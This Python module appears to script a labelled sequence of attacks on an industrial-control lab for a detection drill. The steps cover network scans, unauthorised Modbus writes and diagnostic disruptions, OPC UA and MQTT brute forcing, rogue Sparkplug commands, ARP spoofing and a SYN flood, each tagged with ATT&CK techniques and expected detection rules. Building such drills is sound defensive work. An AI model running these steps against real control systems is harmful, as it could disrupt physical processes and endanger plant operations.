"""The attacker's steps of the demo and the drill, in kill-chain order, each labelled. Bounded, and inside the lab only.

Four intruders, so that the alerts belong to several incidents: a device on the control network (att), an office
workstation, a public address, and the engineering station misused by its own user.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from asyncua import ua
from asyncua.client.client import Client
from asyncua.ua.uaerrors import UaError
from pymodbus.client import AsyncModbusTcpClient
from pymodbus.pdu.file_message import FileRecord

from compose.plant import attack_network as network
from compose.plant import modbus_work as modbus
from compose.plant import sparkplug
from compose.plant.addresses import MODBUS_PORT
from compose.plant.lab import Lab
from compose.plant.mqtt_nodes import COMMAND_TOPIC, STATUS_TOPIC, Node
from compose.plant.opcua_client import Login, harvest, node
from compose.plant.opcua_work import guess_passwords, stop_and_start
from compose.plant.proofs_modbus_odd import RESERVED, scan_functions
from compose.plant.proofs_opcua import within
from compose.plant.sparkplug import REBIRTH, Metric, payload, topic

_PAUSE = 1.2  # seconds between two steps


@dataclass(frozen=True)
class Attack:
    """One step: what it is called, who does it to whom, ATT&CK techniques, rules expected, and what is done."""

    name: str
    source: str
    destination: str
    techniques: str
    rules: str
    act: Callable[[Lab], object]


def _modbus(source: str, server: str, work: modbus.Work) -> Callable[[Lab], object]:
    return lambda lab: lab[source].run(modbus.session(server, work))


async def _single_write(client: AsyncModbusTcpClient) -> None:
    await client.write_register(100, 2400)


async def _toggle(client: AsyncModbusTcpClient) -> None:
    for number in range(16):
        await client.write_coil(2, number % 2 == 0)
        await client.write_register(100, 1500 + 50 * number)
        await asyncio.sleep(0.15)


async def _out_of_range(client: AsyncModbusTcpClient) -> None:
    await client.write_register(100, 3900)
    await asyncio.sleep(1)
    await client.write_register(100, 2000)


async def _clear(client: AsyncModbusTcpClient) -> None:
    await client.diag_clear_counters()
    await client.diag_clear_overrun_counter()


async def _restart(client: AsyncModbusTcpClient) -> None:
    await client.diag_restart_communication(True)


async def _listen_only(client: AsyncModbusTcpClient) -> None:
    await client.diag_force_listen_only(no_response_expected=True)
    await asyncio.sleep(11)
    await client.diag_restart_communication(False, no_response_expected=True)


async def _write_file(client: AsyncModbusTcpClient) -> None:
    await client.write_file_record([FileRecord(4, 7, b"\x06\xaf\x04\xbe\x10\x0d")])


async def _write_node(client: Client) -> None:
    await node(client, "Tank.Setpoint").write_value(2900.0, ua.VariantType.Double)


def _opcua(work: Callable[[Client], Awaitable[object]]) -> Callable[[Lab], object]:
    async def act() -> None:
        try:
            await within(Login("opcua-shell"), work)
        except (UaError, ConnectionError):
            return

    return lambda lab: lab["office"].run(act())


def _mqtt(client_id: str, user: str, act: Callable[[Node], object], seconds: float = 1.0) -> Callable[[Lab], object]:
    def work(lab: Lab) -> None:
        intruder = Node(lab, "internet", client_id, user).connect()
        act(intruder)
        time.sleep(seconds)
        intruder.close()

    return work


def _guess_mqtt(lab: Lab) -> None:
    for number in range(8):
        Node(lab, "internet", f"probe-{number}", "operator", f"guess-{number}").connect().close()


def _commands(intruder: Node) -> None:
    intruder.publish(COMMAND_TOPIC, {"level_setpoint": 2900}, qos=1)
    intruder.publish(STATUS_TOPIC, "stopped", qos=1, retain=True)


def _sparkplug_commands(intruder: Node) -> None:
    intruder.publish(topic("NCMD"), payload([Metric(REBIRTH, sparkplug.BOOLEAN, True)], None))
    order = [Metric("Level set-point", sparkplug.INT32, 3900)]
    intruder.publish(topic("DCMD", sparkplug.DEVICE), payload(order, None))


def _spoof(lab: Lab) -> None:
    lab["att"].call(network.learn_mac, "plc2")
    lab["att"].call(network.learn_mac, "hmi")
    lab["att"].call(network.arp_spoof, ("hmi", "plc2"), 8, 0.25)
    lab["att"].call(network.arp_restore, ("hmi", "plc2"))


def _flood(lab: Lab) -> None:
    lab["att"].call(network.learn_mac, "plc1")
    lab["att"].call(network.syn_flood, "plc1", MODBUS_PORT, 700, 0.012)


NETWORK_STEPS = (
    Attack(
        "ARP sweep", "att", "10.9.1.0/24", "T0846", "G01 G06", lambda lab: lab["att"].call(network.arp_sweep, "att")
    ),
    Attack("TCP port scan", "att", "plc1", "T0846", "G02 G03", lambda lab: lab["att"].call(network.port_scan, "plc1")),
    Attack(
        "horizontal sweep of port 502",
        "att",
        "10.9.1.0/24",
        "T0846 T0888",
        "G04",
        lambda lab: lab["att"].call(network.sweep, MODBUS_PORT, network.control_hosts()),
    ),
)
MODBUS_STEPS = (
    Attack("unit identifier scan", "att", "gw", "T0846", "MB12", _modbus("att", "gw", modbus.scan_units)),
    Attack(
        "function code scan",
        "att",
        "plc1",
        "T0855 T0888",
        "MB06 MB07",
        lambda lab: lab["att"].run(scan_functions("plc1", RESERVED)),
    ),
    Attack("identification by a stranger", "att", "plc1", "T0888", "MB08", _modbus("att", "plc1", modbus.identify)),
    Attack("register harvest", "att", "plc1", "T0801 T0861", "MB05", _modbus("att", "plc1", modbus.harvest_registers)),
    Attack("unauthorised write", "att", "plc1", "T0855 T0848", "MB01", _modbus("att", "plc1", _single_write)),
    Attack("write burst and coil toggling", "att", "plc1", "T0806 T0855", "MB01 MB04", _modbus("att", "plc1", _toggle)),
    Attack(
        "value far outside its range", "att", "plc1", "T0836 T0831", "MB01 MB03", _modbus("att", "plc1", _out_of_range)
    ),
)
ENGINEERING_STEPS = (
    Attack("file record write", "eng", "plc2", "T0889", "MB17", _modbus("eng", "plc2", _write_file)),
    Attack("clear counters", "eng", "plc2", "T0872", "MB11", _modbus("eng", "plc2", _clear)),
    Attack("restart communications", "eng", "plc2", "T0816 T0814", "MB09", _modbus("eng", "plc2", _restart)),
    Attack("force listen-only mode", "eng", "plc2", "T0814 T0803", "MB10 G24", _modbus("eng", "plc2", _listen_only)),
)
OPCUA_STEPS = (
    Attack(
        "OPC UA login brute force",
        "office",
        "opc",
        "T0859",
        "UA01 UA07 G14 G02",
        lambda lab: lab["office"].run(guess_passwords(6)),
    ),
    Attack(
        "address space harvest", "office", "opc", "T0861 T0802", "UA03 UA05 UA08", _opcua(lambda c: harvest(c, 160))
    ),
    Attack("write by a stranger", "office", "opc", "T0855 T0836", "UA09", _opcua(_write_node)),
    Attack("method call by a stranger", "office", "opc", "T0871 T0855", "UA10", _opcua(stop_and_start)),
)
MQTT_STEPS = (
    Attack("MQTT login brute force", "internet", "broker", "T0859 T0883", "MQ04 G14 G02", _guess_mqtt),
    Attack(
        "wildcard subscription",
        "internet",
        "broker",
        "T0801 T0802",
        "MQ01",
        _mqtt("mqtt-explorer-7f3a", "historian", lambda intruder: intruder.subscribe("#", "$SYS/#"), 2.0),
    ),
    Attack(
        "command published, retained status overwritten",
        "internet",
        "broker",
        "T0855 T0856 T0832",
        "MQ05 MQ06",
        _mqtt("paho-2291", "operator", _commands),
    ),
    Attack(
        "rogue Sparkplug commands",
        "internet",
        "broker",
        "T0855",
        "MQ12",
        _mqtt("scada-x", "operator", _sparkplug_commands),
    ),
    Attack(
        "client id takeover",
        "internet",
        "broker",
        "T0849 T0830",
        "MQ07",
        _mqtt("hmi-1", "operator", lambda intruder: None, 6.0),
    ),
)
FINAL_STEPS = (
    Attack("ARP spoofing, man in the middle", "att", "plc2", "T0830", "L01", _spoof),
    Attack("SYN flood", "10.9.1.67", "plc1", "T0814", "G23 G25", _flood),
)
STEPS = (*NETWORK_STEPS, *MODBUS_STEPS, *ENGINEERING_STEPS, *OPCUA_STEPS, *MQTT_STEPS, *FINAL_STEPS)


def play(lab: Lab) -> None:
    """Do all steps, one after the other, with a label each. The plant must be running."""
    for step in STEPS:
        with lab.step(step.name, step.source, step.destination, step.techniques.split(), step.rules.split()):
            step.act(lab)
        time.sleep(_PAUSE)
